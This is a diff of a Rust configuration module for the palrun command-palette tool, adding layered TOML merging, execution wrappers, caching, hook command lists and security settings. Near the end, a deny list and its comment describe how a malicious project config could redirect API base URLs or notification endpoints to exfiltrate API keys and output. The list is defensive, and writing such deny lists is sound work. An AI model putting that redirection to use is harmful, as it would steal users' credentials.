@@ -2,14 +2,20 @@
 //!
 //! Handles loading and saving configuration from TOML files.
 
-use std::path::PathBuf;
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
 
 use serde::{Deserialize, Serialize};
 
+use super::result_cache::CACHEABLE_TAG;
+
 /// Application configuration.
 #[derive(Debug, Clone, Serialize, Deserialize)]
 #[serde(default)]
 pub struct Config {
+    /// Fail on invalid sections instead of falling back to defaults
+    pub strict: bool,
+
     /// General settings
     pub general: GeneralConfig,
 
@@ -19,6 +25,12 @@ pub struct Config {
     /// Scanner settings
     pub scanner: ScannerConfig,
 
+    /// Execution settings
+    pub exec: ExecConfig,
+
+    /// Security settings
+    pub security: SecurityConfig,
+
     /// AI settings
     #[cfg(feature = "ai")]
     pub ai: AiConfig,
@@ -30,13 +42,22 @@ pub struct Config {
     #[cfg(feature = "git")]
     pub hooks: HooksConfig,
 
-    /// Command aliases
-    #[serde(default)]
+    /// Command aliases, from an `[aliases]` table or `[[aliases]]` entries
+    #[serde(default, deserialize_with = "deserialize_aliases")]
     pub aliases: Vec<AliasConfig>,
 
     /// MCP (Model Context Protocol) configuration
     #[serde(default)]
     pub mcp: MCPConfig,
+
+    /// Plugin settings
+    #[serde(default)]
+    pub plugins: PluginsConfig,
+
+    /// Notification settings for `pal notify on-complete`
+    #[cfg(feature = "ai")]
+    #[serde(default)]
+    pub notify: NotifyConfig,
 }
 
 /// General application settings.
@@ -54,6 +75,39 @@ pub struct GeneralConfig {
 
     /// Default shell to use for command execution
     pub shell: Option<String>,
+
+    /// Prefix every command is run through (e.g. "docker compose exec app")
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub exec_wrapper: Option<String>,
+
+    /// Only wrap commands from these sources (npm, make, ...; empty = all)
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub exec_wrapper_sources: Vec<String>,
+
+    /// Only wrap commands with one of these tags (empty = all)
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub exec_wrapper_tags: Vec<String>,
+
+    /// Seconds a command may run before it is killed (unset = no limit)
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub default_timeout: Option<u64>,
+}
+
+impl GeneralConfig {
+    /// Get the configured execution wrapper, if any.
+    pub fn wrapper(&self) -> Option<super::ExecWrapper> {
+        let prefix = self.exec_wrapper.as_deref().map(str::trim).filter(|p| !p.is_empty())?;
+        Some(super::ExecWrapper {
+            prefix: prefix.to_string(),
+            sources: self.exec_wrapper_sources.clone(),
+            tags: self.exec_wrapper_tags.clone(),
+        })
+    }
+
+    /// Get the timeout for commands that do not set their own, if any.
+    pub fn timeout(&self) -> Option<std::time::Duration> {
+        self.default_timeout.map(std::time::Duration::from_secs)
+    }
 }
 
 /// UI/TUI settings.
@@ -78,6 +132,171 @@ pub struct UiConfig {
     /// Custom theme color overrides (hex format: "#RRGGBB")
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub custom_colors: Option<CustomColorsConfig>,
+
+    /// Fuzzy search matching options
+    #[serde(default)]
+    pub search: SearchConfig,
+
+    /// Source icon overrides
+    #[serde(default)]
+    pub icons: IconsConfig,
+
+    /// What Enter does with the selected command
+    #[serde(default)]
+    pub default_action: EnterAction,
+
+    /// Enter action overrides, keyed by source type (`npm`) or program (`terraform`)
+    #[serde(default, skip_serializing_if = "std::collections::HashMap::is_empty")]
+    pub actions: std::collections::HashMap<String, EnterAction>,
+
+    /// Run commands in an output pane below the palette instead of a result screen
+    #[serde(default)]
+    pub run_in_pane: bool,
+}
+
+impl UiConfig {
+    /// Resolve what Enter does for a command.
+    ///
+    /// A source-type override wins over a program override, which wins over
+    /// `default_action`. Commands marked `confirm` are never run directly.
+    pub fn enter_action(&self, command: &super::Command) -> EnterAction {
+        let program = command
+            .command
+            .split_whitespace()
+            .next()
+            .and_then(|program| Path::new(program).file_name())
+            .and_then(|program| program.to_str())
+            .unwrap_or_default();
+
+        let action = self
+            .actions
+            .get(command.source.type_name())
+            .or_else(|| self.actions.get(program))
+            .copied()
+            .unwrap_or(self.default_action);
+
+        if action == EnterAction::Run && command.confirm {
+            EnterAction::Confirm
+        } else {
+            action
+        }
+    }
+}
+
+/// Action taken when pressing Enter on a command in the TUI.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum EnterAction {
+    /// Run the command
+    #[default]
+    Run,
+
+    /// Ask before running the command
+    Confirm,
+
+    /// Exit and print the command, for shell integrations to put on the prompt
+    Print,
+
+    /// Copy the command to the clipboard
+    Copy,
+}
+
+/// Source icon settings (`[ui.icons]`).
+///
+/// Any other key names a source type (`npm`, `cargo`, ...) or a plugin and
+/// sets its icon.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct IconsConfig {
+    /// Base icon set
+    pub preset: IconPreset,
+
+    /// Icons by source type or plugin name
+    #[serde(flatten)]
+    pub sources: std::collections::HashMap<String, String>,
+}
+
+impl IconsConfig {
+    /// Get the icon to show for a command source.
+    ///
+    /// Plugin sources can be configured by plugin name or as `plugin`, and
+    /// otherwise use the icon the plugin registered in `registry`.
+    pub fn icon<'a>(
+        &'a self,
+        source: &super::CommandSource,
+        registry: &'a super::SourceRegistry,
+    ) -> &'a str {
+        if let Some(icon) =
+            self.sources.get(source.key()).or_else(|| self.sources.get(source.type_name()))
+        {
+            return icon;
+        }
+        registry.icon(source, self.preset)
+    }
+}
+
+/// Built-in icon sets.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum IconPreset {
+    /// Emoji icons
+    #[default]
+    Emoji,
+
+    /// Two-letter ASCII tags, for terminals without emoji support
+    Ascii,
+}
+
+/// Fuzzy search matching options.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SearchConfig {
+    /// Case sensitivity of queries
+    pub case: SearchCase,
+
+    /// Whether accented characters match their unaccented form ("é" matches "e")
+    pub normalize: bool,
+}
+
+impl Default for SearchConfig {
+    fn default() -> Self {
+        Self { case: SearchCase::Smart, normalize: true }
+    }
+}
+
+impl SearchConfig {
+    /// Case matching mode for nucleo patterns.
+    pub fn case_matching(&self) -> nucleo::pattern::CaseMatching {
+        match self.case {
+            SearchCase::Smart => nucleo::pattern::CaseMatching::Smart,
+            SearchCase::Sensitive => nucleo::pattern::CaseMatching::Respect,
+            SearchCase::Insensitive => nucleo::pattern::CaseMatching::Ignore,
+        }
+    }
+
+    /// Unicode normalization mode for nucleo patterns.
+    pub fn normalization(&self) -> nucleo::pattern::Normalization {
+        if self.normalize {
+            nucleo::pattern::Normalization::Smart
+        } else {
+            nucleo::pattern::Normalization::Never
+        }
+    }
+}
+
+/// Case sensitivity of fuzzy search queries.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum SearchCase {
+    /// Case-insensitive unless the query contains an uppercase letter
+    #[default]
+    Smart,
+
+    /// Always case-sensitive
+    Sensitive,
+
+    /// Always case-insensitive
+    Insensitive,
 }
 
 /// Custom color configuration for theme overrides.
@@ -140,6 +359,97 @@ pub struct ScannerConfig {
 
     /// Whether to scan recursively
     pub recursive: bool,
+
+    /// Maximum subdirectories to descend into per directory when recursing
+    pub max_breadth: usize,
+
+    /// Maximum subdirectories to descend into in total when recursing
+    pub max_dirs: usize,
+}
+
+/// Execution settings.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ExecConfig {
+    /// Result cache for slow, idempotent commands
+    pub cache: ExecCacheConfig,
+}
+
+/// Security settings.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SecurityConfig {
+    /// Mask secret values with `****` in captured output, AI requests, and logs
+    pub redact_output: bool,
+
+    /// Skip dangerous-pattern checks for commands declared by the project;
+    /// AI-generated and plugin commands are always checked
+    pub trust_project_commands: bool,
+}
+
+/// Result cache settings (`[exec.cache]`).
+///
+/// Only commands tagged `cacheable` or listed in `commands` are cached.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ExecCacheConfig {
+    /// Whether caching is enabled
+    pub enabled: bool,
+
+    /// How long a cached result stays valid, in seconds
+    pub ttl_secs: u64,
+
+    /// Command names or command lines that may be cached
+    pub commands: Vec<String>,
+
+    /// Files (relative to the working directory) whose changes invalidate results
+    pub watch: Vec<String>,
+}
+
+impl ExecCacheConfig {
+    /// Check whether a command's result may be cached.
+    pub fn allows(&self, command: &super::Command) -> bool {
+        self.enabled
+            && (command.tags.iter().any(|tag| tag == CACHEABLE_TAG)
+                || self.commands.iter().any(|c| *c == command.name || *c == command.command))
+    }
+
+    /// Files whose modification times are part of a command's cache key.
+    ///
+    /// The watched files in `dir` plus the file the command was discovered in.
+    pub fn watched_files(&self, command: &super::Command, dir: &Path) -> Vec<PathBuf> {
+        let mut files: Vec<PathBuf> = self.watch.iter().map(|name| dir.join(name)).collect();
+        if let Some(source) = command.metadata.get(crate::scanner::META_SOURCE_FILE) {
+            files.push(PathBuf::from(source));
+        }
+        files
+    }
+}
+
+impl Default for ExecCacheConfig {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            ttl_secs: 300,
+            commands: Vec::new(),
+            watch: [
+                "pom.xml",
+                "build.gradle",
+                "build.gradle.kts",
+                "package.json",
+                "package-lock.json",
+                "Cargo.toml",
+                "Cargo.lock",
+                "go.mod",
+                "go.sum",
+                "pyproject.toml",
+                "poetry.lock",
+            ]
+            .iter()
+            .map(ToString::to_string)
+            .collect(),
+        }
+    }
 }
 
 /// AI integration settings.
@@ -183,6 +493,11 @@ pub struct AiConfig {
     /// Grok-specific settings
     #[serde(default)]
     pub grok: GrokConfig,
+
+    /// Provider per task category; without it every task uses the
+    /// default provider order
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub routing: Option<crate::ai::RoutingConfig>,
 }
 
 #[cfg(feature = "ai")]
@@ -244,6 +559,22 @@ fn default_openai_model() -> String {
     "gpt-4o".to_string()
 }
 
+#[cfg(feature = "ai")]
+impl OpenAIConfig {
+    /// Apply `OPENAI_API_KEY`, `OPENAI_BASE_URL`, and `OPENAI_MODEL`.
+    pub fn apply_env(&mut self) {
+        if let Ok(key) = std::env::var("OPENAI_API_KEY") {
+            self.api_key = Some(key);
+        }
+        if let Ok(url) = std::env::var("OPENAI_BASE_URL") {
+            self.base_url = Some(url);
+        }
+        if let Ok(model) = std::env::var("OPENAI_MODEL") {
+            self.model = model;
+        }
+    }
+}
+
 /// Azure OpenAI configuration.
 #[cfg(feature = "ai")]
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -337,85 +668,83 @@ pub struct KeyConfig {
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
 #[serde(default)]
 pub struct HooksConfig {
-    /// Pre-commit hook command
+    /// Pre-commit hook commands
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub pre_commit: Option<String>,
+    pub pre_commit: Option<HookCommands>,
 
-    /// Prepare-commit-msg hook command
+    /// Prepare-commit-msg hook commands
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub prepare_commit_msg: Option<String>,
+    pub prepare_commit_msg: Option<HookCommands>,
 
-    /// Commit-msg hook command
+    /// Commit-msg hook commands
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub commit_msg: Option<String>,
+    pub commit_msg: Option<HookCommands>,
 
-    /// Post-commit hook command
+    /// Post-commit hook commands
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub post_commit: Option<String>,
+    pub post_commit: Option<HookCommands>,
 
-    /// Pre-rebase hook command
+    /// Pre-rebase hook commands
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub pre_rebase: Option<String>,
+    pub pre_rebase: Option<HookCommands>,
 
-    /// Post-checkout hook command
+    /// Post-checkout hook commands
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub post_checkout: Option<String>,
+    pub post_checkout: Option<HookCommands>,
 
-    /// Post-merge hook command
+    /// Post-merge hook commands
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub post_merge: Option<String>,
+    pub post_merge: Option<HookCommands>,
 
-    /// Pre-push hook command
+    /// Pre-push hook commands
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub pre_push: Option<String>,
+    pub pre_push: Option<HookCommands>,
 
-    /// Pre-auto-gc hook command
+    /// Pre-auto-gc hook commands
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub pre_auto_gc: Option<String>,
+    pub pre_auto_gc: Option<HookCommands>,
 
-    /// Post-rewrite hook command
+    /// Post-rewrite hook commands
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub post_rewrite: Option<String>,
+    pub post_rewrite: Option<HookCommands>,
+
+    /// Issue ID pattern for the `issue-id` prepare-commit-msg template
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub issue_pattern: Option<String>,
 }
 
 #[cfg(feature = "git")]
 impl HooksConfig {
-    /// Get all configured hooks as (hook_name, command) pairs.
-    pub fn get_configured_hooks(&self) -> Vec<(String, String)> {
-        let mut hooks = Vec::new();
-
-        if let Some(ref cmd) = self.pre_commit {
-            hooks.push(("pre-commit".to_string(), cmd.clone()));
-        }
-        if let Some(ref cmd) = self.prepare_commit_msg {
-            hooks.push(("prepare-commit-msg".to_string(), cmd.clone()));
-        }
-        if let Some(ref cmd) = self.commit_msg {
-            hooks.push(("commit-msg".to_string(), cmd.clone()));
-        }
-        if let Some(ref cmd) = self.post_commit {
-            hooks.push(("post-commit".to_string(), cmd.clone()));
-        }
-        if let Some(ref cmd) = self.pre_rebase {
-            hooks.push(("pre-rebase".to_string(), cmd.clone()));
-        }
-        if let Some(ref cmd) = self.post_checkout {
-            hooks.push(("post-checkout".to_string(), cmd.clone()));
-        }
-        if let Some(ref cmd) = self.post_merge {
-            hooks.push(("post-merge".to_string(), cmd.clone()));
-        }
-        if let Some(ref cmd) = self.pre_push {
-            hooks.push(("pre-push".to_string(), cmd.clone()));
-        }
-        if let Some(ref cmd) = self.pre_auto_gc {
-            hooks.push(("pre-auto-gc".to_string(), cmd.clone()));
-        }
-        if let Some(ref cmd) = self.post_rewrite {
-            hooks.push(("post-rewrite".to_string(), cmd.clone()));
-        }
+    /// Get all configured hooks as (hook_name, commands) pairs.
+    pub fn get_configured_hooks(&self) -> Vec<(String, Vec<String>)> {
+        let hooks = [
+            ("pre-commit", &self.pre_commit),
+            ("prepare-commit-msg", &self.prepare_commit_msg),
+            ("commit-msg", &self.commit_msg),
+            ("post-commit", &self.post_commit),
+            ("pre-rebase", &self.pre_rebase),
+            ("post-checkout", &self.post_checkout),
+            ("post-merge", &self.post_merge),
+            ("pre-push", &self.pre_push),
+            ("pre-auto-gc", &self.pre_auto_gc),
+            ("post-rewrite", &self.post_rewrite),
+        ];
 
         hooks
+            .into_iter()
+            .filter_map(|(name, commands)| {
+                commands.as_ref().map(|c| (name.to_string(), c.commands().to_vec()))
+            })
+            .collect()
+    }
+
+    /// Get the commands configured for a hook, in order.
+    pub fn commands_for(&self, hook_name: &str) -> Vec<String> {
+        self.get_configured_hooks()
+            .into_iter()
+            .find(|(name, _)| name == hook_name)
+            .map(|(_, commands)| commands)
+            .unwrap_or_default()
     }
 
     /// Check if any hooks are configured.
@@ -433,70 +762,169 @@ impl HooksConfig {
     }
 }
 
+/// The commands for one hook: a single command or an ordered list.
+///
+/// In palrun.toml either `pre_commit = "cargo test"` or
+/// `pre_commit = ["cargo fmt --check", "cargo test"]`.
+#[cfg(feature = "git")]
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(untagged)]
+pub enum HookCommands {
+    /// A single command
+    One(String),
+
+    /// Commands run in order, stopping at the first failure
+    Many(Vec<String>),
+}
+
+#[cfg(feature = "git")]
+impl HookCommands {
+    /// The commands, in order.
+    pub fn commands(&self) -> &[String] {
+        match self {
+            Self::One(command) => std::slice::from_ref(command),
+            Self::Many(commands) => commands,
+        }
+    }
+}
+
+#[cfg(feature = "git")]
+impl<'de> Deserialize<'de> for HookCommands {
+    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        struct CommandsVisitor;
+
+        impl<'de> serde::de::Visitor<'de> for CommandsVisitor {
+            type Value = HookCommands;
+
+            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+                f.write_str("a command or a list of commands")
+            }
+
+            fn visit_str<E: serde::de::Error>(self, value: &str) -> Result<Self::Value, E> {
+                Ok(HookCommands::One(value.to_string()))
+            }
+
+            fn visit_seq<A: serde::de::SeqAccess<'de>>(
+                self,
+                mut seq: A,
+            ) -> Result<Self::Value, A::Error> {
+                let mut commands = Vec::new();
+                while let Some(command) = seq.next_element::<String>()? {
+                    commands.push(command);
+                }
+                Ok(HookCommands::Many(commands))
+            }
+        }
+
+        deserializer.deserialize_any(CommandsVisitor)
+    }
+}
+
 impl Config {
+    /// Load configuration for the current directory.
+    ///
+    /// See [`Config::load_for`].
+    pub fn load() -> anyhow::Result<Self> {
+        let cwd = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));
+        Self::load_for(&cwd)
+    }
+
     /// Load configuration with hierarchical merging.
     ///
     /// Loading order (later overrides earlier):
     /// 1. Defaults
     /// 2. `~/.config/palrun/palrun.toml` (system - can have secrets)
-    /// 3. `palrun.toml` in current directory (project - NO secrets)
-    /// 4. `.palrun.local.toml` in current directory (local - can have secrets, gitignored)
+    /// 3. `palrun.toml` in the project root (project - NO secrets)
+    /// 4. `.palrun.local.toml` in the project root (local - can have secrets, gitignored)
     /// 5. Environment variables (highest priority)
-    pub fn load() -> anyhow::Result<Self> {
-        let mut config = Self::default();
-
-        // 1. Load system config (can have secrets)
-        if let Some(config_dir) = dirs::config_dir() {
-            let system_config = config_dir.join("palrun").join("palrun.toml");
-            if system_config.exists() {
-                if let Ok(system) = Self::load_from_file(&system_config) {
-                    config = config.merge(system);
-                    tracing::debug!("Loaded system config from {}", system_config.display());
-                }
-            }
-            // Also check legacy path
-            let legacy_config = config_dir.join("palrun").join("config.toml");
-            if legacy_config.exists() && !system_config.exists() {
-                if let Ok(legacy) = Self::load_from_file(&legacy_config) {
-                    config = config.merge(legacy);
-                    tracing::debug!("Loaded legacy config from {}", legacy_config.display());
-                }
+    ///
+    /// The project root is found with [`Config::find_project_root`],
+    /// falling back to `project_dir` itself. Files that do not exist are
+    /// skipped. The rest are deep-merged before the config is built, so a
+    /// project only sets the values it changes: tables merge key by key,
+    /// entries of arrays like `[[aliases]]` merge by `name`, and any other
+    /// value replaces the one below it. Project config files cannot set
+    /// security-sensitive keys; those are dropped with a warning.
+    ///
+    /// Invalid sections are logged and replaced with defaults, unless a
+    /// loaded file sets `strict = true`.
+    pub fn load_for(project_dir: &Path) -> anyhow::Result<Self> {
+        Self::load_with_sources(project_dir).map(|(config, _)| config)
+    }
+
+    /// Load configuration like [`Config::load_for`], noting which file set
+    /// each value.
+    pub fn load_with_sources(project_dir: &Path) -> anyhow::Result<(Self, ConfigSources)> {
+        Self::load_layers(Self::config_dir().as_deref(), project_dir)
+    }
+
+    /// Load configuration like [`Config::load_with_sources`], reading the
+    /// global config from `global_dir` instead of the user's config directory.
+    fn load_layers(
+        global_dir: Option<&Path>,
+        project_dir: &Path,
+    ) -> anyhow::Result<(Self, ConfigSources)> {
+        let root =
+            Self::find_project_root(project_dir).unwrap_or_else(|| project_dir.to_path_buf());
+        let mut table = toml::Table::new();
+        let mut sources = ConfigSources { root: root.clone(), ..ConfigSources::default() };
+        let mut strict = false;
+
+        for (path, kind) in Self::config_files(global_dir, &root) {
+            let Some(mut layer) = read_layer(&path, &mut strict)? else {
+                continue;
+            };
+            for key in remove_keys(&mut layer, kind.denied_keys()) {
+                tracing::warn!("{}: ignoring `{key}`, which this file cannot set", path.display());
             }
+            merge_tables(&mut table, layer, "", &path, &mut sources.values);
+            tracing::debug!("Loaded config from {}", path.display());
+            sources.files.push(path);
         }
 
-        // 2. Load project config (NO secrets - may be committed)
-        let project_config = PathBuf::from("palrun.toml");
-        if project_config.exists() {
-            if let Ok(project) = Self::load_from_file(&project_config) {
-                config = config.merge(project);
-                tracing::debug!("Loaded project config from palrun.toml");
+        // Files that are valid on their own can still clash once merged
+        let warnings = drop_invalid_sections(&mut table);
+        if !warnings.is_empty() {
+            if strict {
+                anyhow::bail!("Invalid merged configuration:\n  {}", warnings.join("\n  "));
             }
-        }
-        // Also check .palrun.toml (legacy project config)
-        let legacy_project = PathBuf::from(".palrun.toml");
-        if legacy_project.exists() {
-            if let Ok(legacy) = Self::load_from_file(&legacy_project) {
-                config = config.merge(legacy);
-                tracing::debug!("Loaded legacy project config from .palrun.toml");
+            for warning in &warnings {
+                tracing::warn!("merged config: {warning}; using defaults");
             }
+            sources.values.retain(|key, _| {
+                key.split('.').next().is_some_and(|section| table.contains_key(section))
+            });
         }
 
-        // 3. Load local config (can have secrets - gitignored)
-        let local_config = PathBuf::from(".palrun.local.toml");
-        if local_config.exists() {
-            if let Ok(local) = Self::load_from_file(&local_config) {
-                config = config.merge(local);
-                tracing::debug!("Loaded local config from .palrun.local.toml");
-            }
-        }
+        let config: Self = toml::Value::Table(table).try_into()?;
 
-        // 4. Apply environment variable overrides
+        // Apply environment variable overrides
         #[cfg(feature = "ai")]
-        {
-            config = config.apply_env_overrides();
+        let config = config.apply_env_overrides();
+
+        Ok((config, sources))
+    }
+
+    /// Config files for a project root that exist, lowest precedence first.
+    fn config_files(global_dir: Option<&Path>, root: &Path) -> Vec<(PathBuf, Layer)> {
+        let mut files = Vec::new();
+
+        // 1. System config (can have secrets), falling back to the legacy path
+        if let Some(config_dir) = global_dir {
+            let system = [config_dir.join("palrun.toml"), config_dir.join("config.toml")];
+            files.extend(system.into_iter().find(|path| path.exists()).map(|p| (p, Layer::Global)));
         }
 
-        Ok(config)
+        // 2. Project config (NO secrets - may be committed)
+        // 3. Local config (can have secrets - gitignored)
+        let project = PROJECT_CONFIG_FILES.iter().map(|name| (root.join(name), Layer::Project));
+        files.extend(
+            project
+                .chain([(root.join(".palrun.local.toml"), Layer::Local)])
+                .filter(|(path, _)| path.exists()),
+        );
+
+        files
     }
 
     /// Load configuration from a specific file.
@@ -506,91 +934,14 @@ impl Config {
         Ok(config)
     }
 
-    /// Merge another config into this one (other takes precedence).
-    pub fn merge(mut self, other: Self) -> Self {
-        // General - use other's values if they differ from default
-        if other.general.show_hidden {
-            self.general.show_hidden = true;
-        }
-        if !other.general.confirm_dangerous {
-            self.general.confirm_dangerous = false;
-        }
-        if other.general.max_history != 1000 {
-            self.general.max_history = other.general.max_history;
-        }
-        if other.general.shell.is_some() {
-            self.general.shell = other.general.shell;
-        }
-
-        // UI
-        if other.ui.theme != "default" {
-            self.ui.theme = other.ui.theme;
-        }
-        if !other.ui.show_preview {
-            self.ui.show_preview = false;
-        }
-        if !other.ui.show_icons {
-            self.ui.show_icons = false;
-        }
-        if other.ui.max_display != 50 {
-            self.ui.max_display = other.ui.max_display;
-        }
-        if !other.ui.mouse {
-            self.ui.mouse = false;
-        }
-        if other.ui.custom_colors.is_some() {
-            self.ui.custom_colors = other.ui.custom_colors;
-        }
-
-        // Scanner
-        if !other.scanner.enabled.is_empty() {
-            self.scanner.enabled = other.scanner.enabled;
-        }
-        if !other.scanner.ignore_dirs.is_empty() {
-            self.scanner.ignore_dirs = other.scanner.ignore_dirs;
-        }
-
-        // AI config
-        #[cfg(feature = "ai")]
-        {
-            self.ai = self.ai.merge(other.ai);
-        }
-
-        // Keys - use other if different from default
-        let default_keys = KeyConfig::default();
-        if other.keys.quit != default_keys.quit {
-            self.keys.quit = other.keys.quit;
-        }
-        if other.keys.select != default_keys.select {
-            self.keys.select = other.keys.select;
-        }
-
-        // Aliases - append
-        if !other.aliases.is_empty() {
-            self.aliases.extend(other.aliases);
-        }
-
-        // MCP
-        if other.mcp.enabled {
-            self.mcp.enabled = true;
-        }
-        if !other.mcp.servers.is_empty() {
-            self.mcp.servers.extend(other.mcp.servers);
-        }
-
-        // Hooks
-        #[cfg(feature = "git")]
-        {
-            if other.hooks.pre_commit.is_some() {
-                self.hooks.pre_commit = other.hooks.pre_commit;
-            }
-            if other.hooks.commit_msg.is_some() {
-                self.hooks.commit_msg = other.hooks.commit_msg;
-            }
-            // ... other hooks follow the same pattern
-        }
-
-        self
+    /// Parse a config file, keeping every section that is valid.
+    ///
+    /// Sections that fail to parse or do not match the schema are left at
+    /// their defaults and reported in the returned warnings.
+    pub fn parse_lenient(content: &str) -> (Self, Vec<String>) {
+        let (table, warnings) = parse_lenient_table(content);
+        let config = toml::Value::Table(table).try_into().unwrap_or_default();
+        (config, warnings)
     }
 
     /// Apply environment variable overrides to AI config.
@@ -602,9 +953,7 @@ impl Config {
         }
 
         // OpenAI
-        if let Ok(key) = std::env::var("OPENAI_API_KEY") {
-            self.ai.openai.api_key = Some(key);
-        }
+        self.ai.openai.apply_env();
 
         // Azure OpenAI
         if let Ok(key) = std::env::var("AZURE_OPENAI_API_KEY") {
@@ -645,6 +994,23 @@ impl Config {
         Ok(())
     }
 
+    /// Find the project root containing `dir`.
+    ///
+    /// Walks up from `dir` to the nearest directory with a project config
+    /// file, like cargo does for `Cargo.toml`. The search stops at the Git
+    /// repository root so configs outside the repository are never picked up.
+    pub fn find_project_root(dir: &Path) -> Option<PathBuf> {
+        for ancestor in dir.ancestors() {
+            if PROJECT_CONFIG_FILES.iter().any(|name| ancestor.join(name).is_file()) {
+                return Some(ancestor.to_path_buf());
+            }
+            if ancestor.join(".git").exists() {
+                break;
+            }
+        }
+        None
+    }
+
     /// Get the config directory path.
     pub fn config_dir() -> Option<PathBuf> {
         dirs::config_dir().map(|d| d.join("palrun"))
@@ -656,38 +1022,440 @@ impl Config {
     }
 }
 
-impl Default for Config {
-    fn default() -> Self {
-        Self {
-            general: GeneralConfig::default(),
-            ui: UiConfig::default(),
-            scanner: ScannerConfig::default(),
-            #[cfg(feature = "ai")]
-            ai: AiConfig::default(),
-            keys: KeyConfig::default(),
-            #[cfg(feature = "git")]
-            hooks: HooksConfig::default(),
-            aliases: Vec::new(),
-            mcp: MCPConfig::default(),
+/// Where the values of a layered config came from.
+///
+/// Built by [`Config::load_with_sources`]. Values are keyed by dotted path,
+/// with entries of named arrays keyed by position, like `aliases.0.command`.
+#[derive(Debug, Clone, Default)]
+pub struct ConfigSources {
+    /// Project root the config was loaded for
+    pub root: PathBuf,
+
+    /// Files that were loaded, lowest precedence first
+    pub files: Vec<PathBuf>,
+
+    values: BTreeMap<String, PathBuf>,
+}
+
+impl ConfigSources {
+    /// The file that set the value at dotted `key`, if any did.
+    pub fn source(&self, key: &str) -> Option<&Path> {
+        self.values.get(key).map(PathBuf::as_path)
+    }
+
+    /// Short name for a loaded file, relative to the project root if inside it.
+    pub fn label(&self, file: &Path) -> String {
+        file.strip_prefix(&self.root).unwrap_or(file).display().to_string()
+    }
+
+    /// Add a comment naming the source file to each value in `toml`.
+    ///
+    /// `toml` is the config serialized with `toml::to_string_pretty`.
+    /// Values left at their defaults are not annotated.
+    pub fn annotate(&self, toml: &str) -> String {
+        let mut table = String::new();
+        let mut array_indices: BTreeMap<String, usize> = BTreeMap::new();
+        let mut out = String::new();
+
+        for line in toml.lines() {
+            out.push_str(line);
+
+            if let Some(header) = line.strip_prefix("[[").and_then(|h| h.strip_suffix("]]")) {
+                let path = resolve_header(header, &array_indices);
+                let index = array_indices.entry(path.clone()).and_modify(|i| *i += 1).or_insert(0);
+                table = format!("{path}.{index}");
+            } else if let Some(header) = line.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
+                table = resolve_header(header, &array_indices);
+            } else if let Some((key, _)) = line.split_once(" = ") {
+                if !line.starts_with(char::is_whitespace) {
+                    let key = key.trim().trim_matches('"');
+                    let path =
+                        if table.is_empty() { key.to_string() } else { format!("{table}.{key}") };
+                    if let Some(file) = self.source(&path) {
+                        out.push_str("  # ");
+                        out.push_str(&self.label(file));
+                    }
+                }
+            }
+
+            out.push('\n');
         }
+
+        out
     }
 }
 
-impl Default for GeneralConfig {
-    fn default() -> Self {
-        Self { show_hidden: false, confirm_dangerous: true, max_history: 1000, shell: None }
+/// Dotted source path for a table header, adding the current index of
+/// each array of tables it passes through.
+fn resolve_header(header: &str, array_indices: &BTreeMap<String, usize>) -> String {
+    let mut path = String::new();
+    for segment in header.split('.') {
+        if !path.is_empty() {
+            path.push('.');
+        }
+        path.push_str(segment.trim().trim_matches('"'));
+        if let Some(index) = array_indices.get(&path) {
+            path = format!("{path}.{index}");
+        }
     }
+    path
 }
 
-impl Default for UiConfig {
-    fn default() -> Self {
-        Self {
-            theme: "default".to_string(),
-            show_preview: true,
+/// Project config file names, in load order.
+const PROJECT_CONFIG_FILES: [&str; 2] = ["palrun.toml", ".palrun.toml"];
+
+/// Keys project config files may not set.
+///
+/// A project config comes with the repository, so anyone who can commit to
+/// it could otherwise turn off command validation, trust their own plugin
+/// signing key, swap a registry plugin for an unverified one, send API keys
+/// or command output to their own server, or wrap every command.
+/// `*` matches any single key.
+const PROJECT_DENIED_KEYS: [&str; 8] = [
+    "security",
+    "notify.endpoints",
+    "plugins.trusted_keys",
+    "plugins.registry_url",
+    "plugins.local_registries",
+    "ai.*.base_url",
+    "ai.azure.endpoint",
+    "general.exec_wrapper",
+];
+
+/// Keys only the global config may set.
+///
+/// Plugin signing keys decide which downloads are trusted, so not even a
+/// project's local config can add one.
+const GLOBAL_ONLY_KEYS: [&str; 1] = ["plugins.trusted_keys"];
+
+/// Which kind of file a config layer was read from.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
